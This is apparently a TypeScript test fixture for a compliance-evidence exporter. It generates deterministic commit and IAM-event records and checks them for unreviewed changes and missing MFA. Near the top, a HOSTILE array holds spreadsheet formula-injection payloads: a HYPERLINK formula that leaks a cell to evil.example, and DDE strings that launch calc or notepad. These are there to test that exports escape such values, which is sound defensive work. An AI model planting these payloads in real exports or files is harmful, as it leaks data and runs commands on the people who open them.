import { readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { z } from 'zod';
import { defineCheck, judgeEachItem } from '../../src/checks/check.js';
import { EvidenceError } from '../../src/errors.js';
import { defineConnector, defineStream, type CollectedItem } from '../../src/stream.js';
import { DAY, HOUR } from '../../src/time.js';

/**
 * A deterministic source for export tests: what a window yields depends on the window alone, so every run
 * and every database gives the same population. Its checks flag some items; some payloads try formula
 * injection, as a commit message or an IAM user name can.
 */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
];

const fixtureConfig = z
  .object({
    failDays: z.array(z.string()).default([]),
    /** Processes that must all have planned before any collects (a folder each one signs in). */
    startTogether: z.object({ dir: z.string(), processes: z.number().int().min(2) }).optional(),
  })
  .strict();
type FixtureConfig = z.infer<typeof fixtureConfig>;

let started: Promise<void> | undefined;

/**
 * Holds this process's first window until every process named in `startTogether` has reached its own, so
 * two backfills started together both plan the whole period, however the machine schedules them.
 */
function startTogether(config: FixtureConfig): Promise<void> {
  const barrier = config.startTogether;
  if (!barrier) return Promise.resolve();
  started ??= (async () => {
    writeFileSync(path.join(barrier.dir, String(process.pid)), '');
    for (let waited = 0; readdirSync(barrier.dir).length < barrier.processes; waited += 20) {
      if (waited > 60_000) throw new Error('fixture: the other processes never reached their first window');
      await sleep(20);
    }
  })();
  return started;
}

const change = z.object({
  sha: z.string(),
  pr: z.number().nullable(),
  approvers: z.array(z.string()),
  checks: z.string(),
  directPush: z.boolean(),
  selfApproved: z.boolean(),
  message: z.string(),
});
type Change = z.infer<typeof change>;

const access = z.object({
  eventId: z.string(),
  actor: z.string(),
  target: z.string(),
  action: z.string(),
  effective: z.boolean(),
  mfaEnrolled: z.boolean(),
});
type Access = z.infer<typeof access>;

const dayIndex = (at: number) => Math.floor(at / DAY);
const dayText = (at: number) => new Date(at).toISOString().slice(0, 10);

export const productionChanges = defineStream<unknown, Change, FixtureConfig>({
  id: 'fixture-production-changes',
  description: 'commits on the default branch (fixture)',
  kind: 'events',
  population: 'every commit that reached the default branch',
  evidenceName: 'Production_Changes',
  criteria: ['CC8.1'],
  isoControls: ['A.8.32'],
  cadence: '1d',
  silenceThreshold: '7d',
  sourceLag: '0s',
  retention: () => ({ kind: 'forever', reason: 'git history is kept forever' }),
  itemSchema: change,
  populationColumns: [
    { header: 'Commit SHA', value: (item) => item.payload.sha },
    { header: 'Pull request', value: (item) => item.payload.pr },
    {
      header: 'Pull request link',
      kind: 'url',
      value: (item) =>
        item.payload.pr === null ? null : `https://github.example/acme/app/pull/${item.payload.pr}`,
    },
    { header: 'Approvers', value: (item) => item.payload.approvers.join(', ') },
    { header: 'Checks', value: (item) => item.payload.checks },
    { header: 'Direct push', value: (item) => item.payload.directPush },
    { header: 'Self-approved', value: (item) => item.payload.selfApproved },
    { header: 'Message', value: (item) => item.payload.message },
  ],
  async *collect(window, _cursor, ctx) {
    await startTogether(ctx.client as FixtureConfig);
    const day = dayIndex(window.start);
    for (let index = 0; index < 3; index += 1) {
      const directPush = index === 2 && day % 2 === 0;
      const selfApproved = index === 1 && day % 5 === 0;
      const item: CollectedItem<Change> = {
        key: `sha-${dayText(window.start)}-${index}`,
        occurredAt: window.start + (index + 1) * HOUR,
        payload: {
          sha: `sha-${dayText(window.start)}-${index}`,
          pr: directPush ? null : day * 10 + index,
          approvers: directPush ? [] : selfApproved ? ['author'] : ['reviewer'],
          checks: 'success',
          directPush,
          selfApproved,
          message:
            index === 0
              ? (HOSTILE[day % HOSTILE.length] ?? '')
              : `change ${index} of ${dayText(window.start)}`,
        },
      };
      yield item;
    }
  },
});

export const accessChanges = defineStream<unknown, Access, FixtureConfig>({
  id: 'fixture-access-changes',
  description: 'IAM write events (fixture)',
  kind: 'events',
  population: 'every successful IAM write event',
  evidenceName: 'AWS_Access_Changes',
  criteria: ['CC6.2', 'CC6.3'],
  isoControls: ['A.5.18', 'A.8.2'],
  cadence: '1d',
  silenceThreshold: '7d',
  sourceLag: '0s',
  retention: () => ({ kind: 'forever', reason: 'trail files kept in S3' }),
  itemSchema: access,
  populationColumns: [
    { header: 'Event id', value: (item) => item.payload.eventId },
    { header: 'Time (UTC)', value: (item) => new Date(item.occurredAt).toISOString() },
    { header: 'Actor', value: (item) => item.payload.actor },
    { header: 'Target', value: (item) => item.payload.target },
    { header: 'Action', value: (item) => item.payload.action },
    { header: 'Effective', value: (item) => item.payload.effective },
  ],
  async *collect(window, _cursor, ctx) {
    const config = ctx.client as FixtureConfig;
    await startTogether(config);
    if (config.failDays.includes(dayText(window.start)))
      throw new EvidenceError('HTTP_503', 'source unavailable (fixture)', 'retriable');
    const day = dayIndex(window.start);
    for (let index = 0; index < 2; index += 1) {
      const noMfa = index === 1 && day % 3 === 0;
      yield {
        key: `evt-${dayText(window.start)}-${index}`,
        occurredAt: window.start + (index + 2) * HOUR,
        payload: {
          eventId: `evt-${dayText(window.start)}-${index}`,
          actor: index === 1 ? HOSTILE[1]! : 'admin',
          target: `user-${day % 7}`,
          action: index === 0 ? 'AttachUserPolicy' : 'CreateLoginProfile',
          effective: true,
          mfaEnrolled: !noMfa,
        },
      };
    }
  },
});

export const fixtureConnector = defineConnector<FixtureConfig, FixtureConfig>({
  id: 'audit-fixture',
  description: 'deterministic evidence for auditor package tests',
  configSchema: fixtureConfig,
  createClient: (config) => config,
  streams: [productionChanges, accessChanges],
});

export const fixtureChangeCheck = defineCheck({
  id: 'fixture-change-review',
  version: 1,
  title: 'Fixture change review',
  description: 'every fixture commit came through an independently approved pull request',
  criteria: ['CC8.1'],
  isoControls: ['A.8.32'],
  streams: [productionChanges.id],
  codes: { DIRECT_PUSH: 'no pull request', SELF_APPROVAL: 'approved by its author only' },
  policy: z.object({ selfApprovalCounts: z.boolean().default(false) }).strict(),
  judge: judgeEachItem(productionChanges.id, change, (fact, policy: { selfApprovalCounts: boolean }) => [
    ...(fact.payload.directPush
      ? [{ code: 'DIRECT_PUSH', description: 'commit reached main without a pull request' }]
      : []),
    ...(fact.payload.selfApproved && !policy.selfApprovalCounts
      ? [{ code: 'SELF_APPROVAL', description: 'the only approver is the author' }]
      : []),
  ]),
});

export const fixtureMfaCheck = defineCheck({
  id: 'fixture-console-mfa',
  version: 1,
  title: 'Fixture console MFA',
  description: 'every console user created in the period enrolled MFA',
  criteria: ['CC6.2'],
  isoControls: ['A.8.2'],
  streams: [accessChanges.id],
  codes: { CONSOLE_USER_WITHOUT_MFA: 'console user without MFA' },
  policy: z.object({}).strict(),
  judge: judgeEachItem(accessChanges.id, access, (fact) =>
    fact.payload.mfaEnrolled
      ? []
      : [{ code: 'CONSOLE_USER_WITHOUT_MFA', description: 'console user without MFA' }],
  ),
});

export const fixtureChecks = [fixtureChangeCheck, fixtureMfaCheck];

/** For `modules:` in a config file (the CLI tests). */
export const connector = fixtureConnector;
export const checks = fixtureChecks;
